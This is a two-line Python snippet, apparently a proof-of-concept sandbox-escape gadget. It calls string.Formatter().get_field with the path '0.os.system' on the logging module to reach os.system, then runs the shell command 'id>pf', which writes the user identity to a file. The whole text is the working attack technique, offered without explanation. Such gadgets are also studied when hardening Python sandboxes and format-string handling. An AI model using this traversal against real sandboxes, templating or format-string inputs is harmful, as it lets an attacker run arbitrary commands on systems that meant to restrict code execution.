import string, logging
string.Formatter().get_field("0.os.system", [logging], {})[0]("id>pf")
